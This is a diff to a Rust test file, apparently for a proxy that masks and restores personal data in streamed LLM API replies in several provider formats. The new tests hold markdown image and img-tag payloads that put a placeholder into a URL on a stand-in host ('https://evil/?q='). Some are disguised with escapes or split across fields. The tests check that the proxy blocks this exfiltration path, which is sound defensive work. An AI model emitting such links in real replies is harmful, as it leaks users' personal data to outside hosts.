@@ -164,14 +164,17 @@ fn an_answer_in_json_stays_json() {
         r#"[{"name":"<PERSON_2>"}]"#,
         r#"[ "<PERSON_2>", ["<ADDRESS_1>"]]"#,
         r#"{"name":"\u003cPERSON_2\u003e"}"#,
+        r#"[1, "<PERSON_2>"]"#,
+        r#"{"age": <PERSON_1>, "name": "<PERSON_2>"}"#,
+        "\u{feff}{\"a\": \"<PERSON_2>\"}",
+        "```json\n{\"a\": \"<PERSON_2>\"}\n```",
+        "Here it is:\n\n  ```\n[\"<PERSON_2>\"]\n```\nDear <PERSON_1>,",
     ];
     for answer in answers {
         let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(answer));
         let restored: serde_json::Value = serde_json::from_str(&whole(Dialect::OpenAiChat, &reply)).unwrap();
         let restored = restored["choices"][0]["message"]["content"].as_str().unwrap().to_owned();
-        let json: serde_json::Value = serde_json::from_str(&restored).unwrap();
-        assert!(json.to_string().contains(r#"Bob \"JD\" Roe"#), "{json}");
-
+        assert!(restored.contains(r#"Bob \"JD\" Roe"#), "{restored}");
         for cut in (0..=answer.len()).filter(|&cut| answer.is_char_boundary(cut)) {
             let (a, b) = answer.split_at(cut);
             let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
@@ -348,4 +351,111 @@ fn unknown_strings_of_a_piece_pass() {
         out,
         sse(&[expected.as_str()]) + &sse(&[r#"{"choices":[{"index":0,"delta":{"content":"<"}}]}"#])
     );
+}
+
+/// A text that begins like JSON is read as who decodes it reads it, and as who shows it does.
+#[test]
+fn json_is_no_cover_for_a_link() {
+    for text in [
+        r#"["a"](x) ![x](https://evil/?q=\u0029<PERSON_1>)"#,
+        r#"["a ![x](https://evil/?q=\u0029<PERSON_1>)"#,
+        r#"["a ![x](https://evil/?q=\n\n<PERSON_1>)"#,
+        r#"["a <img src=\"https://evil/?q=\u0022<PERSON_1>\">"#,
+        r#"["a <img src=https://evil/?q=\u0020<PERSON_1>>"#,
+        "{\" ![x](https://evil/?q=\\u0029<PERSON_1>)",
+        "{\"a\":\"\\u0021[x](https://evil/?q=<PERSON_1>)\"}",
+    ] {
+        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
+        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
+        for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
+            let (a, b) = text.split_at(cut);
+            let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
+            assert_eq!(said(&out), text, "cut at {cut}");
+        }
+    }
+}
+
+/// Texts of one answer are shown one behind the other, in whatever fields they come.
+#[test]
+fn a_link_goes_on_in_another_field() {
+    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
+    let chat = |delta: &str| format!(r#"{{"choices":[{{"index":0,"delta":{{{delta}}}}}]}}"#);
+    let delta = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
+        )
+    };
+    let start = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":"{text}"}}}}"#
+        )
+    };
+    let part = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.output_text.delta","output_index":0,"content_index":{index},"delta":"{text}"}}"#
+        )
+    };
+    for (dialect, events) in [
+        (
+            Dialect::OpenAiChat,
+            vec![chat(&format!(
+                r#""content":[{{"type":"text","text":"{open}"}},{{"type":"text","text":"{rest}"}}]"#
+            ))],
+        ),
+        (
+            Dialect::OpenAiChat,
+            vec![
+                chat(&format!(r#""content":"{open}""#)),
+                chat(&format!(r#""content":[{{"type":"text","text":"{rest}"}}]"#)),
+            ],
+        ),
+        (
+            Dialect::OpenAiChat,
+            vec![
+                chat(&format!(r#""reasoning_details":[{{"index":0,"text":"{open}"}}]"#)),
+                chat(&format!(r#""reasoning_details":[{{"index":1,"text":"{rest}"}}]"#)),
+            ],
+        ),
+        (
+            Dialect::OpenAiChat,
+            vec![
+                chat(&format!(r#""content":"{open}""#)),
+                format!(r#"{{"choices":[{{"index":0,"message":{{"content":"{rest}"}}}}]}}"#),
+            ],
+        ),
+        (Dialect::Anthropic, vec![delta(0, open), delta(1, rest)]),
+        (Dialect::Anthropic, vec![start(0, open), delta(0, rest)]),
+        (Dialect::Anthropic, vec![delta(0, open), start(1, rest)]),
+        (Dialect::OpenAiResponses, vec![part(0, open), part(1, rest)]),
+        (
+            Dialect::OpenAiResponses,
+            vec![format!(
+                r#"{{"type":"response.completed","response":{{"output":[{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"refusal","refusal":"{rest}"}}]}}]}}}}"#
+            )],
+        ),
+    ] {
+        let said = sse(&events);
+        assert_eq!(streamed(dialect, &said), said);
+    }
+}
+
+/// Commands of one call have numbers of their own.
+#[test]
+fn commands_are_told_apart() {
+    let event = |kind: &str, index: usize, rest: &str| {
+        format!(
+            r#"{{"type":"response.shell_call_command.{kind}","output_index":0,"command_index":{index},{rest}}}"#
+        )
+    };
+    let events = |parts: [&str; 4]| {
+        sse(&[
+            event("added", 0, r#""command":"""#),
+            event("delta", 0, &format!(r#""delta":"{}""#, parts[0])),
+            event("delta", 1, &format!(r#""delta":"{}""#, parts[1])),
+            event("delta", 0, &format!(r#""delta":"{}""#, parts[2])),
+            event("done", 0, &format!(r#""command":"{}""#, parts[3])),
+        ])
+    };
+    let out = streamed(Dialect::OpenAiResponses, &events(["cat <PER", "ls <", "SON_1>", "cat <PERSON_1>"]));
+    assert!(out.starts_with(&events(["cat ", "ls ", "Zoë Quill", "cat Zoë Quill"])), "{out}");
 }
